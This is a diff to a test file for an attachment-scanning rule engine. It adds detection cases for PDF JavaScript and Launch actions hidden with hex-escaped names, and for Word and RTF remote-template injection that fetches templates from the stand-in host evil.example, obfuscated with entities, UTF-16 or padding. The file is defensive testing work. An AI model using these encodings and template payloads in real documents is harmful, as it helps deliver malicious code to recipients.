@@ -14,7 +14,17 @@ const file = (name: string, bytes: Buffer | string, type?: string): Difference =
 const text = Buffer.from('Just some text.\r\n')
 const entry = (name: string, data: Buffer = text): Packed => ({ name, data })
 const large = (mark: string): Buffer => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(400_000, 0x20), Buffer.from(mark)])
-const documentWith = (name: string): Buffer => zipOf([entry('[Content_Types].xml'), entry('word/document.xml'), entry(name)])
+const documentWith = (name: string, data: Buffer | string = text): Buffer =>
+  zipOf([entry('[Content_Types].xml'), entry('word/document.xml'), { name, data: Buffer.from(data), isDeflated: data !== text }])
+const documentBehind = (picture: Buffer, relations: string): Buffer =>
+  zipOf([
+    entry('[Content_Types].xml'),
+    entry('word/media/image1.png', picture),
+    { name: 'word/_rels/settings.xml.rels', data: Buffer.from(relations), isDeflated: true },
+  ])
+const relation = (type: string, target: string): string =>
+  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ' +
+  `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
 const noise = Buffer.alloc(300_000)
 for (let at = 0; at < noise.length; at++) noise[at] = (at * 2_654_435_761) >>> 24
 
@@ -74,6 +84,49 @@ const cases: readonly RuleCase[] = [
   ],
   ['spam.attachment-pdf-script', file('a.pdf', '%PDF-1.4\n<</JS 7 0 R>>'), file('a.pdf', '%PDF-1.4\n(TypeScript/JS: 7 hours) Tj')],
   ['spam.attachment-pdf-script', file('a.pdf', '%PDF-1.4\n<< /S/JavaScript/JS(x) >>'), file('a.pdf', '%PDF-1.4\n<< /JSON 1 >>')],
+  [
+    'spam.attachment-pdf-script',
+    file('a.pdf', '%PDF-1.4\n<< /S/J#61vaScript/#4aS(x) >>'),
+    file('a.pdf', '%PDF-1.4\n<< /J#61vaScripts 1 /#4aSON 2 >> (/J#61vaScript)'),
+  ],
+  ['spam.attachment-pdf-launch', file('a.pdf', large('<</#53/#4C#61#75nch>>')), file('a.pdf', large('<</S/#4C#61#75nchpad>>'))],
+  [
+    'spam.attachment-remote-template',
+    file('a.docx', documentWith('word/_rels/settings.xml.rels', relation('attachedTemplate', 'http://evil.example/t.dotm'))),
+    file('a.docx', documentWith('word/_rels/settings.xml.rels', relation('attachedTemplate', 'file:///C:\\t.dotm'))),
+  ],
+  [
+    'spam.attachment-remote-template',
+    file('a.docx', documentWith('word/_rels/document.xml.rels', relation('oleObject', 'mhtml:https://evil.example/x!x'))),
+    file('a.docx', documentWith('word/_rels/document.xml.rels', relation('hyperlink', 'https://www.example.com/'))),
+  ],
+  [
+    'spam.attachment-remote-template',
+    file(
+      'a.docx',
+      documentWith('word/_rels/s.rels', relation('attachedTemplate', '&#104;ttp&#x3a;//evil.example/').replaceAll('"', "'")),
+    ),
+    file('a.docx', documentWith('word/settings.xml', relation('attachedTemplate', 'http://evil.example/'))),
+  ],
+  [
+    'spam.attachment-remote-template',
+    file(
+      'a.docx',
+      documentWith('word/_rels/s.rels', Buffer.from(`\ufeff${relation('attachedTemplate', 'ftp://evil.example/')}`, 'utf16le')),
+    ),
+    file('a.docx', documentWith('word/_rels/s.rels', Buffer.from(`\ufeff${relation('attachedTemplate', 'a.dotx')}`, 'utf16le'))),
+  ],
+  // Behind a picture, beyond what is read of the beginning.
+  [
+    'spam.attachment-remote-template',
+    file('a.docx', documentBehind(noise, relation('attachedTemplate', 'https://evil.example/'))),
+    file('a.docx', documentBehind(noise, relation('attachedTemplate', '\\\\files\\t.dotx'))),
+  ],
+  [
+    'spam.attachment-remote-template',
+    file('a.doc', '{\\rtf1{\\*\\template http://evil.example/t.dotm}}'),
+    file('a.doc', '{\\rtf1{\\*\\template C:\\\\t.dotm} http://example.com}'),
+  ],
   ['spam.attachment-active-page', file('a.html', '<html><script>x</script>'), file('a.html', '<html><p>script')],
   ['spam.attachment-active-page', file('a.svg', '<svg onload="x()"></svg>'), file('a.svg', '<svg><g fill="red"/></svg>')],
   // The form of a text that begins with a script by its own rules.
